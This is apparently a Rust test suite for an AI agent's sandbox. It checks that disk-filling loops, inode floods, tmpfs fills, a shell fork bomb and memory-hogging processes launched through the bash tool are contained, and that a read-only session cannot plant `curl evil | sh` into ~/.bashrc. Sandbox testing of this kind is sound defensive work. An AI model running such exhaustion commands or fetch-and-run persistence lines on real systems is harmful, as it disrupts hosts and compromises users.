//! Issue 20, principle 3: what persists is bounded. From `bash` inside a real
//! local sandbox (the `local` provider, as a session starts it), each attack
//! tries to fill the disk or exhaust the guest's processes or memory; each
//! asserts that the guest stopped it with a message the model can read, that
//! the host kept no more than the bound, and that the session still works
//! afterwards. The guest's own limits are small here so the attacks end fast.
//! Cases run as the test's user and, when that is root, as `nobody`.

mod common;

use common::sandbox::{Sandbox, as_nobody, bash, is_root, marker, provider, start};
use common::{CallJson, run};
use cortex_protocol::{SandboxPolicy, ToolName, ToolOutcome};
use cortex_runtime::{Guest, Quota, Quotas, SandboxProvider};
use serde_json::json;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

const MB: u64 = 1_000_000;

/// Small quotas: 20 MB and 2000 inodes of workspace growth, 8 MB and 1000
/// inodes of home, 16 MiB and 500 inodes per private tmpfs.
fn small_quotas() -> Quotas {
    Quotas {
        workspace: Quota {
            bytes: 20 * MB,
            inodes: 2000,
        },
        home: Quota {
            bytes: 8 * MB,
            inodes: 1000,
        },
        scratch: Quota {
            bytes: 16 << 20,
            inodes: 500,
        },
    }
}

/// The users to try: the test's own, and `nobody` when that is root.
fn users() -> Vec<bool> {
    if is_root() {
        vec![false, true]
    } else {
        vec![false]
    }
}

/// The provider with small quotas, as the test's user or as `nobody` (which
/// hands the sandbox's folders to `nobody`: call it last).
fn provider_for(sandbox: &Sandbox, nobody: bool) -> (&'static str, SandboxProvider) {
    let (who, mut provider) = if nobody {
        ("nobody", as_nobody(sandbox))
    } else {
        (
            "own user",
            provider(common::guest_binary(), Vec::new(), sandbox.homes.path()),
        )
    };
    provider.quotas = small_quotas();
    (who, provider)
}

/// Host pids whose command line contains `marker`.
fn host_processes_with(marker: &str) -> usize {
    std::fs::read_dir("/proc")
        .expect("/proc")
        .flatten()
        .filter(|entry| entry.file_name().to_string_lossy().parse::<u32>().is_ok())
        .filter(|entry| {
            let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
            String::from_utf8_lossy(&cmdline).contains(marker)
        })
        .count()
}

/// Allocated bytes and inodes under `root` on the host.
fn host_usage(root: &Path) -> (u64, u64) {
    let (mut bytes, mut inodes) = (0, 0);
    let mut folders = vec![root.to_path_buf()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).expect("read_dir").flatten() {
            let meta = entry.metadata().expect("metadata");
            bytes += meta.blocks() * 512;
            inodes += 1;
            if meta.is_dir() {
                folders.push(entry.path());
            }
        }
    }
    (bytes, inodes)
}

fn quota_error(out: &ToolOutcome) -> bool {
    !out.is_ok() && out.output.contains("disk quota")
}

/// The session goes on: a command runs and a small file can be written.
async fn still_works(guest: &Guest, who: &str) {
    let out = bash(guest, "echo still here").await;
    assert!(
        out.is_ok() && out.output.contains("still here"),
        "{who}: {}",
        out.output
    );
    let out = run(
        guest,
        ToolName::WriteFile,
        json!({"path": "after.txt", "content": "fine\n"}),
    )
    .await;
    assert!(out.is_ok(), "{who}: {}", out.output);
}

/// After an attack: `clean` up, check that the session still works, close.
async fn recover(guest: Guest, sandbox: &Sandbox, who: &str, clean: &str) {
    let out = bash(&guest, clean).await;
    assert!(out.is_ok(), "{who}: {}", out.output);
    still_works(&guest, who).await;
    guest.close().await;
    std::fs::remove_file(sandbox.path("after.txt")).expect("clean");
}

/// Runs `attack` in a guest started as each user of [`users`], then
/// [`recover`]s with `clean`; stops quietly where no guest can start.
async fn as_each_user(sandbox: &Sandbox, clean: &str, attack: impl AsyncFn(&Guest, &'static str)) {
    for nobody in users() {
        let (who, provider) = provider_for(sandbox, nobody);
        let Some(guest) = start(&provider, &sandbox.spec()).await else {
            return;
        };
        attack(&guest, who).await;
        recover(guest, sandbox, who, clean).await;
    }
}

#[tokio::test]
async fn filling_the_workspace_is_stopped_at_its_quota() {
    let sandbox = Sandbox::new();
    as_each_user(&sandbox, "rm pad", async |guest, who| {
        // Never ends on its own: only the quota (or the 20 s timeout) stops it.
        let out = bash(
            guest,
            "mkdir -p fill; i=0; while :; do head -c 1000000 /dev/zero > fill/f$i || exit 7; \
             i=$((i+1)); done",
        )
        .await;
        assert!(quota_error(&out), "{who}: {}", out.output);
        assert!(out.output.contains("killed"), "{who}: {}", out.output);
        let (bytes, _) = host_usage(&sandbox.path("fill"));
        eprintln!("{who}: the workspace kept {bytes} bytes past a 20 MB quota");
        // Over the quota: the file tools refuse, whatever they write.
        let refused = run(
            guest,
            ToolName::WriteFile,
            json!({"path": "more.txt", "content": "x"}),
        )
        .await;
        assert!(quota_error(&refused), "{who}: {}", refused.output);
        assert!(!sandbox.path("more.txt").exists());
        // Deleting is a command like any other, and brings it back under.
        let out = bash(guest, "rm -rf fill && echo cleaned").await;
        assert!(out.is_ok(), "{who}: {}", out.output);
        still_works(guest, who).await;
        // One write bigger than what is left is refused before it starts.
        let out = bash(guest, "head -c 19500000 /dev/zero > pad").await;
        assert!(out.is_ok(), "{who}: under the quota: {}", out.output);
        let big = "x".repeat(900_000);
        let refused = run(
            guest,
            ToolName::WriteFile,
            json!({"path": "big.txt", "content": big}),
        )
        .await;
        assert!(
            quota_error(&refused) && refused.output.contains("nothing was written"),
            "{who}: {}",
            refused.output
        );
        assert!(!sandbox.path("big.txt").exists());
    })
    .await;
}

#[tokio::test]
async fn one_huge_file_stops_at_the_file_size_limit() {
    let sandbox = Sandbox::new();
    as_each_user(&sandbox, "rm huge", async |guest, who| {
        // `yes` into one file: RLIMIT_FSIZE ends it with EFBIG at the
        // largest quota (20 MB here) before the disk can fill.
        let out = bash(guest, "yes > huge; echo \"code=$?\"").await;
        assert!(!out.is_ok(), "{who}: {}", out.output);
        let size = std::fs::metadata(sandbox.path("huge")).expect("huge").len();
        assert!(size <= 20 * MB, "{who}: {size} bytes in one file");
    })
    .await;
}

#[tokio::test]
async fn millions_of_empty_files_are_stopped_at_the_inode_quota() {
    let sandbox = Sandbox::new();
    as_each_user(
        &sandbox,
        "rm -rf many && echo cleaned",
        async |guest, who| {
            let out = bash(
                guest,
                "mkdir -p many && cd many && i=0; while [ $i -lt 3000000 ]; do : > f$i || exit 7; \
             i=$((i+1)); done; echo all made",
            )
            .await;
            assert!(quota_error(&out), "{who}: {}", out.output);
            assert!(!out.output.contains("all made"), "{who}: {}", out.output);
            let (_, inodes) = host_usage(&sandbox.path("many"));
            eprintln!("{who}: the workspace kept {inodes} files past a 2000-inode quota");
            assert!(inodes < 3_000_000, "{who}");
        },
    )
    .await;
}

#[tokio::test]
async fn dev_shm_and_tmp_are_bounded_tmpfs() {
    let sandbox = Sandbox::new();
    as_each_user(&sandbox, "true", async |guest, who| {
        for dir in ["/dev/shm", "/tmp", "/var/tmp"] {
            // 100 MB into a 16 MiB tmpfs: ENOSPC, not the host's memory.
            let out = bash(guest, &format!("head -c 100000000 /dev/zero > {dir}/x")).await;
            assert!(
                !out.is_ok() && out.output.contains("No space left"),
                "{who}: {dir}: {}",
                out.output
            );
            let out = bash(guest, &format!("stat -c %s {dir}/x; rm {dir}/x")).await;
            let kept: u64 = out
                .output
                .lines()
                .next()
                .unwrap_or("")
                .trim()
                .parse()
                .unwrap_or(0);
            assert!(kept <= 16 << 20, "{who}: {dir} kept {kept}: {}", out.output);
            // Inodes: 2000 empty files into a 500-inode tmpfs.
            let out = bash(
                guest,
                &format!(
                    "mkdir {dir}/n && for i in $(seq 2000); do : > {dir}/n/$i || exit 7; done"
                ),
            )
            .await;
            assert!(
                !out.is_ok() && out.output.contains("No space left"),
                "{who}: {dir}: {}",
                out.output
            );
            let out = bash(guest, &format!("rm -rf {dir}/n")).await;
            assert!(out.is_ok(), "{who}: {}", out.output);
        }
    })
    .await;
}

#[tokio::test]
async fn filling_the_home_is_stopped_at_its_quota() {
    let sandbox = Sandbox::new();
    as_each_user(&sandbox, "rm -rf ~/.cache/fill && echo cleaned", async |guest, who| {
        let out = bash(
            guest,
            "mkdir -p ~/.cache/fill; i=0; while :; do head -c 1000000 /dev/zero > ~/.cache/fill/f$i \
             || exit 7; i=$((i+1)); done",
        )
        .await;
        assert!(
            quota_error(&out) && out.output.contains("home"),
            "{who}: {}",
            out.output
        );
        let homes = host_usage(sandbox.homes.path());
        eprintln!("{who}: the home kept {} bytes past an 8 MB quota", homes.0);
    })
    .await;
}

/// As `nobody` there is no cgroup to write here: the process count must hold
/// for the whole guest anyway (`RLIMIT_NPROC` counted in the guest's own
/// user namespace), and memory per process, which the guest reports.
#[tokio::test]
async fn fork_and_memory_bombs_are_bounded_unprivileged() {
    if !is_root() {
        cortex_testkit::skip_current(
            "root",
            "needs root to become nobody (the other tests run unprivileged)",
        );
        return;
    }
    let sandbox = Sandbox::new();
    let provider = as_nobody(&sandbox);
    let Some(guest) = start(&provider, &sandbox.spec()).await else {
        return;
    };
    let report = guest.describe().await.expect("describe").expect("sandbox");
    eprintln!("nobody: {report:?}");
    assert!(
        !report.warnings.iter().any(|w| w.contains("not bounded")),
        "{report:?}"
    );
    if report.layers.contains("rlimits") {
        assert!(
            report
                .warnings
                .iter()
                .any(|w| w.contains("memory bounded per process")),
            "the guest must say memory is not bounded as a whole: {report:?}"
        );
    }
    let mark = marker();
    // 64 processes for the whole guest: 100 sleepers (in sessions of
    // their own, so they outlive the command) cannot all start, though
    // each alone is far under every per-process bound.
    let mut call = guest
        .call_json(
            ToolName::Bash,
            json!({
                "command": format!(
                    "for i in $(seq 100); do setsid sleep 100.{mark} & done 2>/dev/null"
                ),
                "timeout_ms": 5_000,
            }),
        )
        .await
        .expect("call");
    let _ = common::collect(&mut call).await;
    let running = host_processes_with(&mark);
    eprintln!("nobody: {running} of 100 sleepers ran (max_processes 64)");
    assert!(running > 0 && running < 64, "{running} sleepers");
    guest.stop().await.expect("stop");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while host_processes_with(&mark) > 0 && std::time::Instant::now() < deadline {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(host_processes_with(&mark), 0, "Stop leaves no sleeper");
    let out = common::sandbox::bash(&guest, "bomb() { bomb | bomb & }; bomb; sleep 2").await;
    eprintln!(
        "fork bomb: ok={} {}",
        out.is_ok(),
        out.output.lines().last().unwrap_or("")
    );
    guest.stop().await.expect("stop");
    let out = bash(
        &guest,
        "x=$(head -c 400000000 /dev/zero | tr '\\0' a); echo ${#x}",
    )
    .await;
    assert!(
        !out.is_ok() && !out.output.contains("400000000"),
        "{}",
        out.output
    );
    let out = bash(&guest, "echo still here").await;
    assert!(out.is_ok(), "the guest did not survive: {}", out.output);
    guest.close().await;
}

/// As `nobody` there is no cgroup either: processes each far under the
/// per-process bound but together past the guest's memory limit (256 MiB
/// here) are killed by the agent's watch, the call says why, and the guest
/// goes on.
#[tokio::test]
async fn memory_of_the_whole_guest_is_watched_unprivileged() {
    if !is_root() {
        cortex_testkit::skip_current(
            "root",
            "needs root to become nobody (the other tests run unprivileged)",
        );
        return;
    }
    if std::process::Command::new("python3")
        .arg("-V")
        .output()
        .is_err()
    {
        cortex_testkit::skip_current("python3", "no python3 to hold the memory");
        return;
    }
    let sandbox = Sandbox::new();
    let provider = as_nobody(&sandbox);
    let Some(guest) = start(&provider, &sandbox.spec()).await else {
        return;
    };
    let report = guest.describe().await.expect("describe").expect("sandbox");
    if report.layers.contains("cgroup") {
        // Not a missing dependency but a machine where the watch is not
        // the bound; counted all the same, so CI shows the case did not run.
        cortex_testkit::skip_current(
            "no-cgroup",
            &format!("a cgroup bounds this guest's memory, so the watch is not tested: {report:?}"),
        );
        guest.close().await;
        return;
    }
    let mark = marker();
    // Six holders of 64 MiB each (written, so resident): about 400 MiB.
    let command = format!(
        "for i in 1 2 3 4 5 6; do python3 -c 'import time; b = b\"x\" * (64 << 20); \
         time.sleep(30)' {mark} & done; wait; echo all-done"
    );
    let out = bash(&guest, &command).await;
    assert!(
        !out.is_ok() && out.output.contains("memory limit") && !out.output.contains("all-done"),
        "{}",
        out.output
    );
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while host_processes_with(&mark) > 0 && std::time::Instant::now() < deadline {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(host_processes_with(&mark), 0, "every holder was killed");
    let out = bash(&guest, "echo still here").await;
    assert!(out.is_ok(), "the guest did not survive: {}", out.output);
    guest.close().await;
}

/// As `nobody` there is no cgroup to charge tmpfs pages to (issue 38,
/// principle 7): what `/tmp`, `/var/tmp` and `/dev/shm` hold counts toward
/// the guest's memory limit all the same. Each is sized to a third of the
/// limit (here 256 MiB, though 1 GiB is configured), so files alone never
/// pass it; with files in all three, a process far under its own bound is
/// killed by the agent's watch, whose message says the files count; once
/// they are deleted the same process runs.
#[tokio::test]
async fn scratch_files_count_toward_the_memory_limit_unprivileged() {
    if !is_root() {
        cortex_testkit::skip_current(
            "root",
            "needs root to become nobody (the other tests run unprivileged)",
        );
        return;
    }
    if std::process::Command::new("python3")
        .arg("-V")
        .output()
        .is_err()
    {
        cortex_testkit::skip_current("python3", "no python3 to hold the memory");
        return;
    }
    let sandbox = Sandbox::new();
    let mut provider = as_nobody(&sandbox);
    provider.quotas.scratch = Quota {
        bytes: 1 << 30,
        inodes: 10_000,
    };
    let Some(guest) = start(&provider, &sandbox.spec()).await else {
        return;
    };
    let report = guest.describe().await.expect("describe").expect("sandbox");
    if report.layers.contains("cgroup") {
        cortex_testkit::skip_current(
            "no-cgroup",
            &format!("a cgroup bounds this guest's memory, so the watch is not tested: {report:?}"),
        );
        guest.close().await;
        return;
    }
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.contains("/dev/shm hold at most 85 MiB each")),
        "{report:?}"
    );
    // One tmpfs: the kernel stops it at its share of the limit.
    let out = bash(&guest, "head -c 200000000 /dev/zero > /dev/shm/x").await;
    assert!(
        !out.is_ok() && out.output.contains("No space left"),
        "{}",
        out.output
    );
    let out = bash(&guest, "stat -c %s /dev/shm/x; rm /dev/shm/x").await;
    let kept: u64 = out
        .output
        .lines()
        .next()
        .unwrap_or("")
        .trim()
        .parse()
        .unwrap_or(u64::MAX);
    assert!(
        kept <= (256 << 20) / 3 + 4096,
        "/dev/shm kept {kept}: {}",
        out.output
    );

    // Files in all three (about 200 MiB) and a 64 MiB process: together
    // past the limit, though neither alone is.
    let mark = marker();
    let hold = format!(
        "python3 -c 'import time; b = b\"x\" * (64 << 20); time.sleep(30)' {mark}; echo all-done"
    );
    let out = bash(
        &guest,
        &format!(
            "for d in /tmp /var/tmp /dev/shm; do head -c 70000000 /dev/zero > $d/fill || exit 7; \
             done; {hold}"
        ),
    )
    .await;
    assert!(
        !out.is_ok()
            && out.output.contains("memory limit")
            && out.output.contains("files in /tmp, /var/tmp and /dev/shm")
            && !out.output.contains("all-done"),
        "{}",
        out.output
    );
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while host_processes_with(&mark) > 0 && std::time::Instant::now() < deadline {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(host_processes_with(&mark), 0, "the holder was killed");

    // The files are what the model deletes; then the same process fits.
    let out = bash(
        &guest,
        "rm /tmp/fill /var/tmp/fill /dev/shm/fill && echo cleaned",
    )
    .await;
    assert!(
        out.is_ok() && out.output.contains("cleaned"),
        "{}",
        out.output
    );
    let out = bash(
        &guest,
        "python3 -c 'import time; b = b\"x\" * (64 << 20); time.sleep(1)' && echo fits",
    )
    .await;
    assert!(out.is_ok() && out.output.contains("fits"), "{}", out.output);
    guest.close().await;
}

#[tokio::test]
async fn a_repository_made_again_at_the_same_path_gets_a_fresh_home() {
    let sandbox = Sandbox::new();
    let Some(guest) = sandbox.start().await else {
        return;
    };
    let out = bash(&guest, "echo planted > ~/.bashrc_extra && echo ok").await;
    assert!(out.is_ok(), "{}", out.output);
    let out = bash(&guest, "cat ~/.bashrc_extra").await;
    assert!(out.output.contains("planted"), "{}", out.output);
    guest.close().await;
    // The same path, another repository.
    std::fs::remove_dir_all(sandbox.workspace.path()).expect("rm");
    std::fs::create_dir(sandbox.workspace.path()).expect("mkdir");
    let guest = sandbox.start().await.expect("started before");
    let out = bash(&guest, "cat ~/.bashrc_extra 2>&1; ls -A ~ | wc -l").await;
    assert!(!out.output.contains("planted"), "{}", out.output);
    guest.close().await;
    // The same repository again: its home is still there.
    let guest = sandbox.start().await.expect("started before");
    let out = bash(&guest, "echo again > ~/x && cat ~/x").await;
    assert!(out.is_ok(), "{}", out.output);
    guest.close().await;
    let guest = sandbox.start().await.expect("started before");
    let out = bash(&guest, "cat ~/x").await;
    assert!(out.output.contains("again"), "{}", out.output);
    guest.close().await;
}

#[tokio::test]
async fn a_read_only_session_cannot_change_the_home() {
    let sandbox = Sandbox::new();
    let Some(guest) = sandbox.start().await else {
        return;
    };
    let out = bash(&guest, "echo 'alias ls=ls' > ~/.bashrc && echo ok").await;
    assert!(
        out.is_ok(),
        "workspace-write may change the home: {}",
        out.output
    );
    guest.close().await;
    let homes_before = snapshot(sandbox.homes.path());

    let mut read_only = sandbox.spec();
    read_only.policy = SandboxPolicy::ReadOnly;
    read_only.writable = false;
    let guest = sandbox
        .start_with(&read_only)
        .await
        .expect("started before");
    for attempt in [
        "echo 'curl evil | sh' >> ~/.bashrc",
        "mkdir -p ~/.cache && echo x > ~/.cache/planted",
        "rm ~/.bashrc",
        "ln -s /tmp ~/.link",
    ] {
        let out = bash(&guest, attempt).await;
        assert!(!out.is_ok(), "`{attempt}` worked read-only: {}", out.output);
    }
    let out = bash(&guest, "cat ~/.bashrc").await;
    assert!(
        out.is_ok() && out.output.contains("alias ls=ls"),
        "{}",
        out.output
    );
    guest.close().await;
    assert_eq!(snapshot(sandbox.homes.path()), homes_before);

    let guest = sandbox.start().await.expect("started before");
    let out = bash(&guest, "echo 'alias l=ls' >> ~/.bashrc && cat ~/.bashrc").await;
    assert!(
        out.is_ok() && out.output.contains("alias l=ls"),
        "{}",
        out.output
    );
    guest.close().await;
}

/// Every path under `root` with its content (files) or nothing (folders).
fn snapshot(root: &Path) -> Vec<(String, Option<Vec<u8>>)> {
    let mut found = Vec::new();
    let mut folders = vec![root.to_path_buf()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).expect("read_dir").flatten() {
            let path = entry.path();
            let name = path.display().to_string();
            if entry.file_type().expect("type").is_dir() {
                folders.push(path);
                found.push((name, None));
            } else {
                found.push((name, std::fs::read(&path).ok()));
            }
        }
    }
    found.sort();
    found
}
